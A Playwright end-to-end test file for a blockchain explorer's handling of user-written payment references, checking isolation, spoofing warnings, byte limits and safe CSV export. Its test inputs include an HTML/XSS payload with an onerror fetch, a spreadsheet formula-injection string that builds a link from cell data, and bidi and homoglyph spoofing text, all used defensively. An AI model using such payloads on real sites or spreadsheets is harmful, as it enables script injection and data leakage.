"""What payments are for, as the explorer shows it: texts that anybody can write must do nothing to a page."""

import csv

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from cairn.domain.types import intrinsic_gas
from tests.e2e.explorer.conftest import DEV_SIGNED, Axe, Visit, fact
from tests.e2e.explorer.test_sending import WALLET, confirmed_hash
from tests.support.browser import TIMEOUT_MS, Theme, Visitor
from tests.support.node_process import NodeProcess
from tests.support.public import PublicNode
from tests.support.wallet import dev_account, new_account

RICH, OTHER = dev_account(0).address, dev_account(1).address
PLAIN = "invoice 4711"
MARKUP = "<img src=x onerror=\"fetch('/tx')\">&lt;b&gt;</bdi>"
LOOK_ALIKE = "\u0440\u0430yment 4711"
"""The first two letters are Cyrillic."""
FROM_RIGHT = "\u05d3\u05d5\u05d7 4711 (0)"
INVISIBLE = "invoice\u3164\u034f 4711"
STACKED = "i" + "\u0301\u0316" * 60
LONG = "W" * 256
SPACES = " invoice  4711 "
FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1;"x");@SUM(1)'
TEXTS = [PLAIN, MARKUP, LOOK_ALIKE, FROM_RIGHT, INVISIBLE, STACKED, LONG, SPACES, FORMULA]
NOT_TEXT = ["\u202e1174 eciovni".encode(), "a\u200bb".encode(), b"\xff\xfe", bytes(256), "\ue000".encode()]
MARK = "Look closely"


def pay(node: PublicNode, to: str, data: bytes, **fields: object) -> str:
    transfer = {"from": RICH, "to": to, "value": "1", "gas": intrinsic_gas(data), "data": "0x" + data.hex()}
    answer = node.post(transfer | fields)
    assert answer.status_code == 200, answer.text
    return str(answer.json()["txHash"])


@pytest.fixture(scope="module")
def paid(node: PublicNode) -> tuple[str, dict[bytes, str]]:
    """An account that was paid with every text, and the transactions by their data."""
    account = new_account().address
    hashes = {data: pay(node, account, data) for data in [*(text.encode() for text in TEXTS), *NOT_TEXT]}
    for tx_hash in hashes.values():
        node.await_confirmed(tx_hash)
    return account, hashes


def is_within_the_window(page: Page) -> bool:
    return bool(page.evaluate("() => document.documentElement.scrollWidth <= document.documentElement.clientWidth"))


def assert_isolated(place: Locator, text: str) -> None:
    """The element holds the text and nothing else, and what is in it moves nothing outside."""
    expect(place).to_have_count(1)
    assert place.evaluate("(each) => [each.tagName, each.children.length, each.textContent]") == ["BDI", 0, text]
    style = place.evaluate("(each) => [getComputedStyle(each).unicodeBidi, getComputedStyle(each).overflow]")
    assert style == ["isolate", "clip"]


@pytest.mark.parametrize("text", TEXTS)
def test_a_reference_is_text_beside_its_bytes_and_its_proof_holds(
    visit: Visit, paid: tuple[str, dict[bytes, str]], text: str
) -> None:
    data = text.encode()
    page = visit().open(f"/tx/{paid[1][data]}")
    assert_isolated(fact(page, "Reference").locator(".reference"), text)
    expect(fact(page, "Data").locator(".code")).to_have_text("0x" + data.hex())
    expect(fact(page, "Data")).to_contain_text(f"{len(data)} bytes")
    is_plain = text in (PLAIN, MARKUP, LONG, FORMULA)
    expect(fact(page, "Reference").get_by_text(MARK)).to_have_count(0 if is_plain else 1)
    expect(page.get_by_text(DEV_SIGNED)).to_be_visible()
    assert is_within_the_window(page)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (LOOK_ALIKE, "It mixes alphabets: letters may look like others."),
        (FROM_RIGHT, "It has characters beyond ASCII: they may look like others."),
        (INVISIBLE, "It has characters that cannot be seen."),
        (SPACES, "It begins or ends with a space, or has several in a row."),
    ],
)
def test_a_text_that_may_look_like_another_says_why(
    visit: Visit, paid: tuple[str, dict[bytes, str]], text: str, why: str
) -> None:
    page = visit().open(f"/tx/{paid[1][text.encode()]}")
    expect(page.locator(".doubts")).to_contain_text(why)


@pytest.mark.parametrize("data", NOT_TEXT, ids=lambda data: data[:4].hex())
def test_data_that_is_not_printable_text_is_shown_as_bytes_only(
    visit: Visit, paid: tuple[str, dict[bytes, str]], data: bytes
) -> None:
    page = visit().open(f"/tx/{paid[1][data]}")
    expect(fact(page, "Data").locator(".code")).to_have_text("0x" + data.hex())
    expect(fact(page, "Data")).to_contain_text("not text")
    expect(page.locator(".reference")).to_have_count(0)
    expect(page.get_by_text(DEV_SIGNED)).to_be_visible()


@pytest.mark.parametrize("is_phone", [False, True])
def test_lists_show_references_and_none_leaves_its_place(
    visit: Visit, node: PublicNode, paid: tuple[str, dict[bytes, str]], is_phone: bool
) -> None:
    account, hashes = paid
    blocks = {node.read(f"/tx/{tx_hash}")["blockHash"] for tx_hash in hashes.values()}
    visitor = visit(is_phone=is_phone)
    page = visitor.open(f"/account/{account}")
    shown = page.locator("bdi.reference")
    assert sorted(shown.all_text_contents()) == sorted(TEXTS)
    assert is_within_the_window(page)
    boxes = "(all) => all.map((each) => [each, each.closest('td')].map((one) => one.getBoundingClientRect()))"
    for text, cell in shown.evaluate_all(boxes):
        assert cell["left"] - 1 <= text["left"] <= text["right"] <= cell["right"] + 1
        assert text["height"] < 40, "marks on letters do not make it higher"
    listed = []
    for block in blocks:
        visitor.go(f"/block/{block}")
        fees = sum(node.read(f"/tx/{tx_hash}")["fee"] for tx_hash in node.read(f"/block/{block}")["transactions"])
        expect(fact(page, "Fees").locator(".amount")).to_have_attribute("data-wei", str(fees))
        listed += page.locator("bdi.reference").all_text_contents()
        assert is_within_the_window(page)
    assert sorted(listed) == sorted(TEXTS)


def test_pending_references_are_listed_and_lists_without_any_have_no_column(visit: Visit, node: PublicNode) -> None:
    page = visit().open("/mempool")
    expect(page.get_by_role("columnheader", name="Reference")).to_have_count(0)
    gap = node.next_nonce(RICH) + 1
    # It waits for the nonce before it.
    waiting = pay(node, OTHER, LOOK_ALIKE.encode(), nonce=gap)
    row = page.locator("tr", has=page.locator(f"[title='{waiting}']"))
    assert_isolated(row.locator(".reference"), LOOK_ALIKE)
    expect(row.get_by_text(MARK)).to_be_visible()
    expect(row).to_contain_text(f"waits for nonce {gap - 1}")
    page = visit().open(f"/tx/{waiting}")
    assert_isolated(fact(page, "Reference").locator(".reference"), LOOK_ALIKE)
    pay(node, OTHER, b"")
    node.await_confirmed(waiting)


def test_a_reference_is_counted_in_bytes_paid_for_and_sent(visit: Visit, node: PublicNode) -> None:
    page = visit().open(f"/send?to={OTHER}")
    field, remark = page.get_by_label("Reference"), page.locator("#reference-remark")
    expect(page.locator("#amount-remark")).to_contain_text("plus a fee of 0.000021 coins.")
    field.fill("é" * 129)
    page.get_by_role("button", name="Send").click()
    expect(remark).to_have_text("258 of 256 bytes: write less.")
    expect(field).to_be_focused()
    field.fill("a\u202eb")
    page.get_by_role("button", name="Send").click()
    expect(remark).to_have_text("It holds U+202E, a character that cannot be shown.")
    field.fill("café 4711")
    expect(remark).to_contain_text("10 of 256 bytes. Everybody can read it, forever.")
    expect(remark).to_contain_text("beyond ASCII")
    expect(page.locator("#amount-remark")).to_contain_text("plus a fee of 0.00002116 coins.")
    page.get_by_role("button", name="Send").click()
    tx = node.read(f"/tx/{confirmed_hash(page)}")
    assert (tx["reference"], tx["gas"], tx["fee"]) == ("café 4711", 21_160, 21_160 * 10**9)


def test_a_wallet_is_asked_to_sign_the_reference_as_data(visit: Visit) -> None:
    visitor = visit()
    visitor.page.add_init_script(WALLET)
    page = visitor.open(f"/send?to={OTHER}")
    page.get_by_label("Browser wallet").check()
    page.get_by_role("button", name="Connect the wallet").click()
    expect(page.get_by_label("From")).to_be_enabled()
    visitor.run(
        "() => { const ask = window.ethereum.request; window.ethereum.request = (call) =>"
        " call.method === 'eth_sendTransaction' ? (window.signed = call.params[0], Promise.reject(new Error('no')))"
        " : ask.call(window.ethereum, call) }"
    )
    page.get_by_label("Reference").fill(PLAIN)
    page.get_by_role("button", name="Send").click()
    page.wait_for_function("() => window.signed")
    signed = visitor.run("() => window.signed")
    assert (signed["data"], int(signed["gas"], 16)) == ("0x" + PLAIN.encode().hex(), intrinsic_gas(PLAIN.encode()))


def test_a_chain_that_forbids_references_has_no_field_for_one(browser: Browser, process: NodeProcess) -> None:
    visitor = Visitor(browser, process.url)
    visitor.page.route(
        "**/chain",
        lambda route: route.fulfill(
            body=route.fetch(timeout=TIMEOUT_MS).text().replace('"maxDataBytes":256', '"maxDataBytes":0'),
            content_type="application/json",
        ),
    )
    page = visitor.open("/send")
    expect(page.get_by_label("Amount")).to_be_visible()
    expect(page.get_by_label("Reference")).to_have_count(0)
    visitor.close()


def test_a_saved_history_has_references_that_no_spreadsheet_computes(
    visit: Visit, paid: tuple[str, dict[bytes, str]]
) -> None:
    account, hashes = paid
    page = visit().open(f"/account/{account}")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download as CSV").click()
    with open(download.value.path(), newline="", encoding="utf-8") as file:
        rows = {bytes.fromhex(row["data"][2:]): row["reference"] for row in csv.DictReader(file)}
    assert rows.keys() == hashes.keys(), "the bytes are as they are"
    told = dict.fromkeys(NOT_TEXT, "") | {text.encode(): text for text in TEXTS}
    told[FORMULA.encode()] = '\'=HYPERLINK("http://127.0.0.1/?"&A1;"x");\'@SUM(1)'
    assert rows == told


@pytest.mark.parametrize(("theme", "is_phone"), [("light", False), ("dark", True)])
def test_references_keep_nobody_out(
    visit: Visit, axe: Axe, paid: tuple[str, dict[bytes, str]], theme: Theme, is_phone: bool
) -> None:
    visitor = visit(theme, is_phone)
    visitor.open(f"/account/{paid[0]}")
    assert axe(visitor) == []
    visitor.go(f"/tx/{paid[1][LOOK_ALIKE.encode()]}")
    assert axe(visitor) == []
